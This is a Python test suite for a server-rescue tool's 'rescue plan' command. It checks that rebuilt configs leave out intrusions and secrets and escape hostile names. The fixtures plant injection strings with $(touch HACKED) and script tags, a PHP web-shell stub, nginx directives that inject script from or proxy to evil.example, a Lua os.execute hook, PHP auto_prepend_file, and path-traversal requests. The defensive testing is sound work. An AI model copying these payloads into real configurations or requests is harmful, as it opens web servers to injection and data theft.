"""``rescue plan``: what it writes is valid, serves, holds no secret, and cannot be made to say what the disk wants."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from redkeep.model.spec import load
from tests.cli import Redkeep
from tests.rescue import victim, webserver

EVIL = "pwn\n```\n</code><script>alert(1)</script> $(touch HACKED) `touch HACKED` '; touch HACKED #"
ACCESS_KEY = "LTAI5tExampleKeyOfNobody"
SECRETS = (
    victim.REDIS_SECRET,
    "hunter2",
    "topsecret",
    "phpsecret",
    "longer-secret",
    ACCESS_KEY,
    "djangosecret",
    "sentinelsecret",
    "renamed-away",
)


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The victim of the story, with more of what a plan must not carry over."""
    top = victim.infected(victim.clean(tmp_path_factory.mktemp("victim") / "root"))
    (top / "usr/share/nginx/html/pic.jpg").write_bytes(b"\xff\xd8\xff rescued")
    victim.put(top, "/data/upload/shell.php", "<?php evil")
    victim.put(
        top,
        "/etc/redis.conf",
        f"bind 0.0.0.0\nport 6399\nprotected-mode no\nrequirepass {victim.REDIS_SECRET}\n"
        "rename-command CONFIG renamed-away\ndir /var/lib/redis\nmaxmemory 64mb\nmaxmemory-policy allkeys-lru\n"
        "appendonly yes\nsave 900 1\nsave 300 10\nloadmodule /tmp/exp.so\nhz 20\n"
        f'slowlog-max-len {EVIL.splitlines()[0]}"x\ndatabases 4\n',
    )
    victim.put(top, "/srv/cloud/.env", f"OSS_ACCESS_KEY_ID={ACCESS_KEY}\nOSS_ACCESS_KEY_SECRET=hunter2\n")
    victim.put(
        top,
        "/srv/django/settings.py",
        "SECRET_KEY = 'djangosecret'\nDATABASES = {'default': {'PASSWORD': 'hunter2'}}\n",
    )
    victim.put(top, "/root/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nhunter2\n", 0o600)
    victim.put(top, "/root/.aliyun/config.json", '{"access_key_secret": "hunter2"}')
    available = victim.put(top, "/etc/nginx/sites-available/blog", _BLOG)
    (top / "etc/nginx/sites-enabled").mkdir()
    (top / "etc/nginx/sites-enabled/blog").symlink_to(available.relative_to(top).as_posix().join(("/", "")))
    main = top / "etc/nginx/nginx.conf"
    main.write_text(
        "load_module modules/evil.so;\nuser root;\n"
        + main.read_text().replace(
            "http {", "http {\n  include /etc/nginx/sites-enabled/*;\n  include /tmp/evil.conf;\n", 1
        )
    )
    victim.put(top, "/tmp/evil.conf", "server { listen 80; server_name evil.example; root /etc; }\n")
    return top


_BLOG = """\
server { listen 80; server_name blog.example; return 301 https://blog.example$request_uri; }
server {
    listen 443 ssl http2;
    server_name blog.example "x; } server { root /etc";
    root /srv/blog;
    index index.php;
    autoindex on;
    access_by_lua_block { os.execute("touch HACKED") }
    location / { try_files $uri $uri/ /index.php?$args; sub_filter '</head>' '<script src=//evil.example></script></head>'; }
    location ~ \\.php$ { fastcgi_pass unix:/var/run/php5.sock; fastcgi_param PHP_VALUE "auto_prepend_file=/tmp/x"; }
    location /steal/ { proxy_pass http://evil.example/; }
    location /files { alias /data/upload/; }
    location /admin { auth_basic "x"; auth_basic_user_file /etc/nginx/htpasswd; }
    location "/x\\"; } location /y { root /etc; } #" { return 200 pwned; }
}
"""


@pytest.fixture(scope="module")
def bundle(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    run = Redkeep(tmp_path_factory.mktemp("bundle"))
    run("rescue", "extract", str(root), "bundle").ok()
    return run.folder / "bundle"


@pytest.fixture(scope="module")
def planned(bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Any]:
    """The plan's directory, and the document of ``--json``."""
    run = Redkeep(tmp_path_factory.mktemp("plan"))
    words = ("--web-root", f"{run.folder}/www", "--ssh-from", "203.0.113.7", "--json")
    return run.folder / "rebuild", run("rescue", "plan", str(bundle), *words).ok().json


@pytest.fixture
def run(tmp_path: Path) -> Redkeep:
    return Redkeep(tmp_path)


def test_a_deployment_file_with_its_doors_closed(planned: tuple[Path, Any]) -> None:
    out, document = planned
    text = (out / "redkeep.yaml").read_text()
    spec = load(text)
    assert (spec.mode, spec.port, spec.maxmemory, spec.eviction) == (
        "standalone",
        6399,
        64 << 20,
        "allkeys-lru",
    )
    assert (spec.persistence, spec.auth, spec.clients) == ("rdb+aof", "password", "private")
    assert dict(spec.settings) == {"databases": "4", "hz": "20", "save": "900 1 300 10"}
    assert spec.hosts[0].ssh == "root@fill-in-1.invalid"
    (one,) = document["redis"]
    told = "\n".join(one["changes"] + one["notes"])
    for word in (
        "was open",
        "rename-command of CONFIG",
        "1 modules are not loaded",
        "FLUSHALL",
        "RDB version 9",
    ):
        assert word in told, word


def test_hosts_that_are_named_are_planned_for(run: Redkeep, bundle: Path) -> None:
    run("rescue", "plan", str(bundle), "--host", "local").ok()
    steps = run("plan", "-f", "rebuild/redkeep.yaml", "--json").ok().json["steps"]
    assert {step["action"] for step in steps} >= {"prepare-host", "write-files", "start"}
    run(
        "rescue",
        "plan",
        str(bundle),
        "--out",
        "two",
        "--host",
        "a=root@192.0.2.1",
        "--host",
        "b=root@192.0.2.2",
    ).ok()
    assert [host.name for host in load((run.folder / "two/redkeep.yaml").read_text()).hosts] == ["a", "b"]


def test_a_cluster_and_a_sentinel_stay_what_they_were(run: Redkeep, tmp_path: Path) -> None:
    root = victim.clean(tmp_path / "root")
    for port in (7001, 7002):
        victim.put(
            root, f"/etc/redis/{port}.conf", f"port {port}\ncluster-enabled yes\ndir /var/lib/redis-{port}\n"
        )
    nodes = "".join(
        f"{n:040x} 10.0.0.{n}:7001@17001 {'master' if n < 5 else 'slave'} - 0 0 {n} connected {n}-{n}\n"
        for n in range(1, 9)
    )
    victim.put(root, "/var/lib/redis-7001/nodes.conf", nodes)
    victim.put(
        root,
        "/etc/redis/sentinel.conf",
        "port 26379\nsentinel monitor shop 10.0.0.1 6379 2\nsentinel auth-pass shop sentinelsecret\n"
        "sentinel down-after-milliseconds shop 5000\nsentinel known-replica shop 10.0.0.2 6379\n",
    )
    document = run("rescue", "plan", str(root), "--json").ok().json
    assert [one["mode"] for one in document["redis"]] == ["sentinel", "cluster"]
    sentinel, cluster = (load((run.folder / "rebuild" / f["file"]).read_text()) for f in document["redis"])
    assert (sentinel.name, sentinel.replicas, sentinel.sentinels, sentinel.failover) == ("shop", 1, 3, 5000)
    assert (cluster.shards, cluster.replicas, cluster.port) == (4, 1, 7001)
    assert {"where": "/etc/redis/sentinel.conf", "what": "auth-pass", "kind": "Redis password"} in document[
        "rotate"
    ]
    assert "sentinelsecret" not in everything(run.folder / "rebuild")
    told = run("rescue", "plan", str(root), "--out", "few", "--host", "a=root@192.0.2.1")
    told.error(2, "mode sentinel", "--host", "add hosts")
    assert not (run.folder / "few").exists()


def everything(out: Path) -> str:
    return "\n".join(file.read_text() for file in sorted(out.rglob("*")) if file.is_file())


def test_every_secret_is_named_and_none_is_shown(run: Redkeep, root: Path) -> None:
    """From the disk itself, where more is found than a bundle has."""
    told = run("rescue", "plan", str(root), "--json").ok()
    kinds = {(one["where"], one["what"]): one["kind"] for one in told.json["rotate"]}
    assert kinds[("/srv/cloud/.env", "OSS_ACCESS_KEY_ID")] == "cloud key"
    assert kinds[("/srv/cloud/.env", "OSS_ACCESS_KEY_SECRET")] == "cloud key"
    assert kinds[("/srv/django/settings.py", "SECRET_KEY")] == "application secret"
    assert kinds[("/srv/django/settings.py", "PASSWORD")] == "database password"
    assert kinds[("/srv/php/.env", "REDIS_URL")] == "Redis password"
    assert kinds[("/etc/redis.conf", "requirepass")] == "Redis password"
    assert kinds[("/root/.aliyun/config.json", "")] == "cloud key"
    assert kinds[("/root/.ssh/id_rsa", "a private key of its user")] == "SSH key"
    assert kinds[("/etc/nginx/ssl/shop.key", "shop.example")] == "TLS key"
    assert kinds[("/etc/shadow", "the account root")] == "account password"
    written = everything(run.folder / "rebuild") + told.stdout + told.stderr
    for secret in SECRETS:
        assert secret not in written, secret
    rebuild = (run.folder / "rebuild/REBUILD.md").read_text()
    assert rebuild.index("## 2.") < rebuild.index("/root/.aliyun/config.json") < rebuild.index("## 3.")
    assert all(file.stat().st_mode & 0o077 == 0 for file in (run.folder / "rebuild").rglob("*"))


LEFT_OUT = {
    "load_module": "a module is a program",
    "user root": "the workers were root",
    "include /tmp/evil.conf": "where no configuration belongs",
    "access_by_lua_block": "Lua",
    "autoindex on": "lists directories",
    "location /: sub_filter": "changes pages",
    "fastcgi_param": "back door",
    "proxy_pass http://evil.example/": "to another host, by a name",
    "location /admin: auth_basic": "closed until you protect it anew",
    "the redirect to TLS": "comes back when the certificates are issued",
    "server_name x; }": "not a host name",
    "location /files": "visitors leave the directory",
}


def test_what_is_dangerous_is_left_out_and_named(planned: tuple[Path, Any]) -> None:
    out, document = planned
    for what, why in LEFT_OUT.items():
        assert any(what in one["what"] and why in one["why"] for one in document["left_out"]), what
    configuration = "".join(file.read_text() for file in out.rglob("nginx/**/*") if file.is_file())
    for word in (
        "lua",
        "evil",
        "load_module",
        "sub_filter",
        "PHP_VALUE",
        "root /etc",
        "pwned",
        "autoindex",
        "/y",
    ):
        assert word not in configuration, word


def test_nginx_takes_it_and_a_rescued_picture_is_served(planned: tuple[Path, Any], bundle: Path) -> None:
    """The commands of REBUILD.md put the files into place; nginx runs unprivileged, on loopback of its own network."""
    out, _ = planned
    at = webserver.prefix(out.parent / "nginx-prefix")
    webserver.install(out, at, tls=False)
    assert webserver.complaints(at) == ""
    www = out.parent / "www"
    for line in (out / "REBUILD.md").read_text().splitlines():
        if (
            re.match(r"    (?:mkdir -p|cp -R|chmod -R) ", line)
            and str(www) in line
            and "/etc/nginx" not in line
        ):
            subprocess.run(["sh", "-c", line], check=True)
    certificate, key = victim._certificate()
    for number in (1, 2):
        victim.put(at, f"rescued/tls/site-{number}/fullchain.pem", certificate)
        victim.put(at, f"rescued/tls/site-{number}/privkey.pem", key, 0o644)
    webserver.install(out, at, tls=True)
    assert webserver.complaints(at) == ""
    _reachable(out.parent)
    shop, blog = ("-H", "Host: shop.example"), ("-H", "Host: blog.example")
    ask = webserver.answers(
        at,
        (*shop, "http://127.0.0.1/upload/2024/1.jpg"),
        (*shop, "http://127.0.0.1/pic.jpg"),
        ("--resolve", "shop.example:443:127.0.0.1", "https://shop.example/pic.jpg"),
        (*shop, "http://127.0.0.1/upload/shell.php"),
        (*shop, "--path-as-is", "http://127.0.0.1/upload../../etc/passwd"),
        (*blog, "--path-as-is", "http://127.0.0.1/files../redis.conf"),
        (*blog, "http://127.0.0.1/steal/x"),
        (*blog, "http://127.0.0.1/admin"),
        (*blog, "http://127.0.0.1/.env"),
        (*blog, "http://127.0.0.1/files/shell.php"),
    )
    picture = (bundle / "files/data/upload/2024/1.jpg").read_text(errors="surrogateescape")
    assert ask[0].endswith("\n200")
    assert picture.strip()[-9:] in ask[0]
    assert [one.splitlines()[-1] for one in ask[1:3]] == ["200", "200"]
    statuses = [one.splitlines()[-1] for one in ask[3:]]
    assert statuses[0] == "404"
    assert all(status in ("400", "403", "404") for status in statuses[1:3]), statuses
    assert statuses[3:5] == ["503", "503"]
    assert all(status in ("403", "404") for status in statuses[5:]), statuses


def _reachable(directory: Path) -> None:
    """pytest's own directories are for their owner only; nginx is somebody else."""
    for one in (directory, *directory.parents):
        if one == Path("/tmp") or one == one.parent:
            break
        one.chmod(one.stat().st_mode | 0o011)
    for path in (directory / "nginx-prefix").rglob("*"):
        path.chmod(path.stat().st_mode | (0o055 if path.is_dir() else 0o044))


@pytest.mark.parametrize("memory", ["99999999999999999", "1", "50%", "-1"])
def test_a_limit_that_nobody_meant_is_none(run: Redkeep, tmp_path: Path, memory: str) -> None:
    victim.put(tmp_path / "root", "/etc/redis.conf", f"port 6379\nmaxmemory {memory}\ndir /var/lib/redis\n")
    run("rescue", "plan", "root", "--json").ok()
    assert "# maxmemory:" in (tmp_path / "rebuild/redkeep.yaml").read_text()


def test_hostile_names_stay_names(run: Redkeep, tmp_path: Path) -> None:
    """In file names, host names, keys, locations, settings: nothing of it becomes YAML, shell, Markdown or nginx."""
    root = victim.clean(tmp_path / "root")
    name = EVIL.replace("/", "_")
    victim.put(root, f"/srv/{name}/.env", f"DB_PASSWORD=x\n{name}=1\nREDIS_HOST='{name}'\n")
    victim.put(root, "/etc/hostname", name)
    victim.put(
        root,
        f"/opt/{name}/redis.conf",
        'port 6400\ndir "a\nmaxmemory-policy x: {y}\nbind 0.0.0.0 $(touch HACKED)\n',
    )
    victim.put(root, "/etc/os-release", f"PRETTY_NAME={name}\n")
    shutil.copytree(root / "var/lib/mysql", root / f"data/{name}/mysql-data")
    quoted = name.replace("\n", " ").replace("'", "")
    victim.put(
        root,
        "/etc/nginx/conf.d/evil.conf",
        f"server {{ server_name '{quoted}'; root '/srv/{quoted}'; location '/{quoted}' {{ alias '/data/{quoted}/'; }} }}\n",
    )
    document = run("rescue", "plan", str(root), "--json").ok().json
    out = run.folder / "rebuild"
    for one in document["redis"]:
        text = (out / one["file"]).read_text()
        load(text)
        assert set(yaml.safe_load(text)) <= {
            *(
                "name",
                "mode",
                "engine",
                "persistence",
                "auth",
                "clients",
                "tls",
                "hosts",
                "port",
                "eviction",
                "settings",
            ),
            *("maxmemory", "replicas"),
        }
    rebuild = (out / "REBUILD.md").read_text()
    assert "<script" not in re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", rebuild).replace("\\<script", "")
    assert not re.search(r"^\s*```", rebuild, re.MULTILINE)
    commands = [line[4:] for line in rebuild.splitlines() if line.startswith("    ")]
    commands = [c for c in commands if not c.startswith("nginx -t")]
    assert len(commands) > 10
    shell = "\n".join(
        re.sub(r"^(?:redkeep|certbot|REGION=\S+|mkdir|cp|ln|chmod|find)", "true", c) for c in commands
    )
    done = subprocess.run(["sh", "-c", shell], cwd=run.folder, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    for script in ("security-group-tencent.sh", "security-group-alibaba.sh"):
        subprocess.run(["sh", "-n", str(out / script)], check=True)
    assert not list(tmp_path.rglob("HACKED"))
    told = run("rescue", "plan", str(root), "--out", "two").ok()
    assert "\x1b" not in told.stdout
    at = webserver.prefix(run.folder / "prefix")
    webserver.install(out, at, tls=False)
    assert webserver.complaints(at) == ""


def test_twice_the_same_and_what_somebody_changed_stays(run: Redkeep, bundle: Path) -> None:
    first = run("rescue", "plan", str(bundle), "--json").ok().json
    assert len(first["written"]) == len(first["files"]) + 1
    assert run("rescue", "plan", str(bundle), "--json").ok().json["written"] == []
    assert "there already" in run("rescue", "plan", str(bundle)).ok().stdout
    file = run.folder / "rebuild/redkeep.yaml"
    file.write_text(file.read_text().replace("fill-in-1.invalid", "192.0.2.1"))
    (run.folder / "rebuild/REBUILD.md").unlink()
    run("rescue", "plan", str(bundle)).error(4, "redkeep.yaml", "--force")
    assert "192.0.2.1" in file.read_text()
    assert not (run.folder / "rebuild/REBUILD.md").exists()
    forced = run("rescue", "plan", str(bundle), "--force", "--json").ok().json
    assert forced["written"] == ["REBUILD.md", "redkeep.yaml"]


def test_wrong_words_and_places(run: Redkeep, bundle: Path, root: Path, tmp_path: Path) -> None:
    run("rescue", "plan", "nothing").error(2)
    run("rescue", "plan", str(root), "--out", str(root / "plan")).error(4, "into the evidence")
    run("rescue", "plan", str(bundle), "--out", str(bundle / "files/plan")).error(4, "into the evidence")
    assert not (root / "plan").exists()
    (tmp_path / "file").touch()
    run("rescue", "plan", str(bundle), "--out", "file").error(2, "not a directory")
    for wrong in ("www", "/srv/../etc", "/srv/a;b", "/srv/ä", ""):
        run("rescue", "plan", str(bundle), "--web-root", wrong).error(2, "--web-root")
    for wrong in ("0.0.0.0/0", "here", "::/0", "1.2.3.4; id"):
        run("rescue", "plan", str(bundle), "--ssh-from", wrong).error(2, "--ssh-from")
    run("rescue", "plan", str(bundle), "--host", "a=b,c").error(2, "--host")
    assert not (tmp_path / "rebuild").exists()


def test_a_bundle_that_was_never_finished_or_is_forged(run: Redkeep, bundle: Path, tmp_path: Path) -> None:
    half = tmp_path / "half"
    shutil.copytree(bundle, half)
    (half / "manifest.jsonl").unlink()
    run("rescue", "plan", str(half)).error(1, "never finished", "extract")
    (half / "manifest.jsonl").write_text('{"path": 1}\n')
    run("rescue", "plan", str(half)).error(1, "manifest cannot be read")
    shutil.rmtree(half / "files")
    (half / "files").symlink_to("/")
    document = run("rescue", "inspect", str(half), "--json").json
    assert document["form"] == "directory"
    assert document["system"]["name"] == ""


def test_a_bundle_has_the_links_and_modes_of_the_disk(run: Redkeep, root: Path, bundle: Path) -> None:
    found = [run("rescue", "inspect", str(source), "--json").json for source in (root, bundle)]
    assert found[1]["form"] == "bundle"
    assert found[0]["sites"] == found[1]["sites"]
    for documents in found:
        assert any(sign["rule"] == "intrusion-suid" for sign in documents["intrusion"])


def test_a_disk_with_nothing_on_it(run: Redkeep, tmp_path: Path) -> None:
    (tmp_path / "root/etc").mkdir(parents=True)
    document = run("rescue", "plan", str(tmp_path / "root"), "--json").ok().json
    assert (document["redis"], document["sites"], document["rotate"]) == ([], [], [])
    assert "No configuration of Redis was found." in (run.folder / "rebuild/REBUILD.md").read_text()
    assert json.loads((run.folder / "rebuild/plan.json").read_text())["redis"] == []


def test_a_place_that_cannot_be_written(run: Redkeep, bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    run("rescue", "plan", str(bundle), "--out", "file/plan").error(1, "cannot write", "--out")
